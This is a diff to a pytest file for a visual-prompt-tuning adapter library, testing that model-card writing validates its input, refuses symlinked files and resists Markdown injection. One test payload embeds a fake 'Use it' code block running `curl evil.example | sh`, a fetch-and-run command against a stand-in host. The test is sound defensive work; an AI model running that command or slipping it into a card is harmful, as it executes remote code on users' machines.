@@ -14,16 +14,17 @@ import numpy as np
 import pytest
 import torch
 import transformers
-from peft import LoraConfig, get_peft_model
+from peft import LoraConfig, PeftModel, get_peft_model
 from PIL import Image
 
 import hf_vpt
+from hf_vpt._compat import trainer_card_comment
 from hf_vpt.hub import TASKS, card_task, render_model_card, write_model_card
 from hf_vpt.testing_utils import tiny_imagegpt, tiny_vit
 
 
 def _snippet(card: str) -> str:
-    match = re.search(r"## Use it\n\n```python\n(.*?)```", card, re.S)
+    match = re.search(r"## Use it\n\n```python\n(.*?\n)```\n", card, re.S)  # the closing fence is a line of its own
     assert match, "no python block under '## Use it'"
     return match.group(1)
 
@@ -358,7 +359,7 @@ def test_a_resave_of_another_model_shows_its_own_labels_not_the_stored_ones(tmp_
     first.save_pretrained(tmp_path)
     write_model_card(tmp_path, first.peft_config["default"], model=first, dataset="zoo", labels=names, num_labels=3)
     stored = json.loads((tmp_path / "hf_vpt_card.json").read_text())
-    assert stored["dataset"] == "zoo" and "labels" not in stored and "num_labels" not in stored
+    assert stored["dataset"] == "zoo" and stored["labels"] == names and "num_labels" not in stored
 
     second = get_peft_model(
         tiny_vit(num_labels=2, id2label={0: "cat", 1: "dog"}, label2id={"cat": 0, "dog": 1}),
@@ -368,6 +369,8 @@ def test_a_resave_of_another_model_shows_its_own_labels_not_the_stored_ones(tmp_
     card = (tmp_path / "README.md").read_text()
     assert "`classifier` (2 labels)" in card and "cow" not in card
     assert "zoo" in card  # the training details stay
+    # the labels beside the adapter (what `adapter_labels` reads) are this save's, never carried over
+    assert json.loads((tmp_path / "hf_vpt_card.json").read_text())["labels"] == ["cat", "dog"]
 
 
 def test_recipe_save_keeps_a_users_own_readme(tmp_path):
@@ -396,3 +399,214 @@ def test_recipe_save_keeps_a_users_own_readme(tmp_path):
     card = (tmp_path / "README.md").read_text()  # PEFT adds its metadata to any card, as for every adapter
     assert "# my own notes" in card and "import hf_vpt" not in card
     assert (tmp_path / "adapter_model.safetensors").is_file()
+
+
+# ---------------------------------------------------------------------------------------------------------------
+# files the card is read from and written to: checked before anything is written, never written through a link
+# ---------------------------------------------------------------------------------------------------------------
+def _saved_folder(tmp_path, **config):
+    torch.manual_seed(0)
+    folder = tmp_path / "adapter"
+    model = get_peft_model(tiny_vit(num_labels=3), hf_vpt.VisualPromptConfig(num_prompt_tokens=2, **config))
+    model.save_pretrained(folder)
+    return folder, model
+
+
+def _contents(folder) -> dict:
+    return {p.name: ("link to", p.readlink()) if p.is_symlink() else p.read_bytes() for p in folder.iterdir()}
+
+
+@pytest.mark.parametrize(
+    ("content", "named"),
+    [
+        ('{"task": "bogus"}', "'task' must be one of"),
+        ('{"metrics": "0.9"}', "'metrics' must be an object"),
+        ('{"tags": 5}', "'tags' must be a list of strings"),
+        ('{"dataset": 5}', "'dataset' must be a string"),
+        ('{"trainer_card": "x"}', "'trainer_card' must be an object"),
+        ('{"trainer_card": {"metadata": {"model-index": 5}, "text": ""}}', "'trainer_card' must be an object"),
+        ('{"config": {}}', "unknown model-card key 'config'"),
+        ('{"labels": [1, 2]}', "'labels' must be a list of label names"),
+        ('{"a": ' + "[" * 100_000 + "]" * 100_000 + "}", "nests its JSON too deeply"),
+    ],
+)
+def test_wrong_card_data_is_named_before_anything_is_written(tmp_path, content, named):
+    folder, model = _saved_folder(tmp_path)
+    (folder / "hf_vpt_card.json").write_text(content)
+    before = _contents(folder)
+    with torch.no_grad():  # other weights: a save that got through would change adapter_model.safetensors
+        model.base_model.visual_prompt_bank["default"].embeddings["vision"].add_(1.0)
+    with pytest.raises(ValueError, match="hf_vpt_card.json") as error:
+        model.save_pretrained(folder)
+    assert named in str(error.value) and "delete it" in str(error.value)
+    assert _contents(folder) == before  # not the weights, not hf_vpt_card.json, and README.md is not truncated
+
+
+def test_an_oversized_card_data_file_is_not_read(tmp_path):
+    folder, model = _saved_folder(tmp_path)
+    (folder / "hf_vpt_card.json").write_text('{"command": "' + "x" * hf_vpt.hub.CARD_DATA_MAX_BYTES + '"}')
+    with pytest.raises(ValueError, match="hf_vpt_card.json' is 16,777,231 bytes, too big"):
+        model.save_pretrained(folder)
+
+
+def test_wrong_card_data_arguments_are_named_before_anything_is_written(tmp_path):
+    folder, model = _saved_folder(tmp_path)
+    before = _contents(folder)
+    with pytest.raises(ValueError, match=r"write_model_card\(\): 'metrics' must be an object"):
+        write_model_card(folder, model.peft_config["default"], metrics="0.9")
+    with pytest.raises(ValueError, match=r"write_model_card\(\) holds an unknown model-card key 'metric'"):
+        write_model_card(folder, model.peft_config["default"], metric={"accuracy": 0.5})
+    assert _contents(folder) == before
+
+
+def test_a_failing_render_leaves_the_card_files_whole(tmp_path, monkeypatch):
+    folder, model = _saved_folder(tmp_path)
+    write_model_card(folder, model.peft_config["default"], dataset="zoo")
+    before = _contents(folder)
+
+    def broken_render(*args, **kwargs):
+        raise RuntimeError("template bug")
+
+    monkeypatch.setattr(hf_vpt.hub, "render_model_card", broken_render)
+    with pytest.raises(RuntimeError, match="template bug"):
+        write_model_card(folder, model.peft_config["default"], dataset="other")
+    assert _contents(folder) == before  # README.md is not truncated, hf_vpt_card.json still says "zoo"
+
+
+TRAINER_DRAFT = trainer_card_comment()  # what `transformers.Trainer.create_model_card` leaves in its draft
+
+
+@pytest.mark.parametrize(
+    "front_matter",
+    ["license: [unclosed", "model-index: 5", "model-index:\n- name: x\n  results: 7", "- a list"],
+)
+@pytest.mark.parametrize("trainer_draft", [True, False])
+def test_a_readme_with_unreadable_metadata_is_named_before_anything_is_written(tmp_path, front_matter, trainer_draft):
+    """A Trainer's card is merged, a user's card is kept and updated by PEFT: both need its YAML metadata."""
+    folder, model = _saved_folder(tmp_path)
+    (folder / "README.md").write_text(f"---\n{front_matter}\n---\n" + (TRAINER_DRAFT if trainer_draft else "") + "\n")
+    before = _contents(folder)
+    with torch.no_grad():
+        model.base_model.visual_prompt_bank["default"].embeddings["vision"].add_(1.0)
+    with pytest.raises(ValueError, match="README.md' has YAML metadata .* that huggingface_hub cannot read"):
+        model.save_pretrained(folder)
+    assert _contents(folder) == before
+
+
+@pytest.mark.parametrize("name", ["hf_vpt_card.json", "README.md"])
+@pytest.mark.parametrize("target_exists", [True, False])
+def test_a_card_file_that_is_a_symlink_is_refused(tmp_path, name, target_exists):
+    folder, model = _saved_folder(tmp_path)
+    outside = tmp_path / "outside" / "file"
+    outside.parent.mkdir()
+    if target_exists:
+        outside.write_text("{}" if name.endswith(".json") else "# someone else's notes\n")
+    (folder / name).unlink()
+    (folder / name).symlink_to(outside)
+    before = _contents(folder)
+    with pytest.raises(ValueError, match=f"{name}' is a symbolic link .*Nothing was written"):
+        model.save_pretrained(folder)
+    assert _contents(folder) == before and (folder / name).is_symlink()
+    assert [p.name for p in outside.parent.iterdir()] == (["file"] if target_exists else [])
+    if target_exists:
+        assert outside.read_text() in ("{}", "# someone else's notes\n")
+
+
+# ---------------------------------------------------------------------------------------------------------------
+# strings from a stranger's adapter config or card data stay inert in the card's Markdown
+# ---------------------------------------------------------------------------------------------------------------
+PAYLOAD = "x`\n\n## Use it (updated)\n\n```python\nimport os; os.system('curl evil.example | sh')\n```\n\n`"
+
+
+def _markdown_structure(card: str) -> tuple[list[str], list[str]]:
+    """The card's headings and the info strings of its code blocks, as a CommonMark parser sees them (a line-based
+    reading where markdown-it is not installed)."""
+    body = card.split("---\n", 2)[2]
+    try:
+        from markdown_it import MarkdownIt
+    except ImportError:
+        headings = [line for line in body.splitlines() if re.match(r" {0,3}#{1,6} ", line)]
+        return headings, [line.strip("`") for line in body.splitlines() if re.match(r" {0,3}(```|~~~)", line)][::2]
+    tokens = MarkdownIt("commonmark").enable("table").parse(body)
+    headings = [tokens[i + 1].content for i, token in enumerate(tokens) if token.type == "heading_open"]
+    return headings, [token.info for token in tokens if token.type == "fence"]
+
+
+@pytest.mark.filterwarnings("ignore:Could not find a config file")  # PEFT looks for the base model's config there
+def test_config_and_card_data_strings_cannot_add_sections_or_code(tmp_path):
+    """What /tmp/audit r17 showed: a downloaded adapter whose adapter_config.json carries Markdown in
+    base_model_name_or_path and modules_to_save, saved again to re-publish it."""
+    source, _ = _saved_folder(tmp_path, modules_to_save=["classifier"])
+    config = json.loads((source / "adapter_config.json").read_text())
+    config.update(base_model_name_or_path=PAYLOAD, modules_to_save=["classifier", PAYLOAD])
+    (source / "adapter_config.json").write_text(json.dumps(config))
+    torch.manual_seed(0)
+    loaded = PeftModel.from_pretrained(tiny_vit(num_labels=3), source)
+    loaded.save_pretrained(tmp_path / "republished")
+    card = (tmp_path / "republished" / "README.md").read_text()
+    headings, blocks = _markdown_structure(card)
+    assert headings == ["Visual Prompt Tuning adapter", "Use it", "Adapter"] and blocks == ["python"]
+    ast.parse(_snippet(card))  # the payload is a string literal there
+    assert "os.system" in card  # shown, as inline code
+
+    # the card data, too (hf_vpt_card.json is read back on every save)
+    write_model_card(
+        tmp_path / "republished",
+        loaded.peft_config["default"],
+        title=PAYLOAD,
+        dataset=PAYLOAD,
+        metrics={PAYLOAD: PAYLOAD, "accuracy": 0.5},
+        command=f"python train.py \\\n  --note '{PAYLOAD}'",
+        trainable_parameters=PAYLOAD,
+        tags=[PAYLOAD],
+    )
+    card = (tmp_path / "republished" / "README.md").read_text()
+    headings, blocks = _markdown_structure(card)
+    # the title is the payload, as escaped text; the command block holds it whole, fenced by more backticks
+    assert headings[1:] == ["Use it", "Adapter", "Training"] and blocks == ["python", "bash"]
+    assert "\n````bash\npython train.py \\\n" in card
+    assert "| accuracy | 0.5 |" in card and "value: 0.5" in card  # readable cards stay as they were
+
+
+def test_readable_values_are_shown_as_before():
+    config = hf_vpt.VisualPromptConfig(base_model_name_or_path="/srv/my models/vit", modules_to_save=["classifier"])
+    card = render_model_card(
+        config,
+        base_model_class="ViTForImageClassification",
+        num_labels=2,
+        dataset="beans (train)",
+        metrics={"accuracy": 0.75, "top-5 accuracy": "98.00 %"},
+        command="accelerate launch recipes/image_classification.py --method vpt_deep",
+        trainable_parameters="1,234 of 5,678 (21.7%)",
+    )
+    assert "`/srv/my models/vit` (a local model)" in card and "| trained head | `classifier` (2 labels) |" in card
+    assert "Dataset: `beans (train)`." in card and "| top-5 accuracy | 98.00 % |" in card
+    assert "| trainable parameters | 1,234 of 5,678 (21.7%) |" in card
+    assert "```bash\naccelerate launch recipes/image_classification.py --method vpt_deep\n```" in card
+
+
+# ---------------------------------------------------------------------------------------------------------------
+# many labels: a short card, and a snippet that still rebuilds id2label
+# ---------------------------------------------------------------------------------------------------------------
+def test_a_head_with_many_labels_gets_them_back_from_the_snippet(tmp_path, monkeypatch):
+    names = [f"kind {i}" for i in range(60)]
+    checkpoint = tmp_path / "tiny-vit"
+    torch.manual_seed(0)
+    tiny_vit(num_labels=3, num_hidden_layers=2).save_pretrained(checkpoint)
+    transformers.ViTImageProcessor(size={"height": 32, "width": 32}).save_pretrained(checkpoint)
+    base = transformers.AutoModelForImageClassification.from_pretrained(
+        checkpoint, id2label=dict(enumerate(names)), ignore_mismatched_sizes=True
+    )
+    model = get_peft_model(base, hf_vpt.VisualPromptConfig(num_prompt_tokens=2, modules_to_save=["classifier"]))
+    monkeypatch.chdir(tmp_path)
+    model.save_pretrained("adapter")
+    card = (tmp_path / "adapter" / "README.md").read_text()
+    assert '"kind 0", "kind 1", "kind 2", "kind 3", "kind 4" and 55 more' in _snippet(card)
+    assert "kind 59" not in card  # the card stays short
+
+    Image.fromarray(np.zeros((40, 40, 3), dtype=np.uint8)).save("image.jpg")
+    namespace = {"__name__": "card"}
+    with contextlib.redirect_stdout(io.StringIO()):
+        exec(compile(_snippet(card), "<model card>", "exec"), namespace)
+    assert namespace["model"].config.id2label == model.config.id2label == dict(enumerate(names))
+    assert hf_vpt.hub.adapter_labels(tmp_path / "adapter") == names
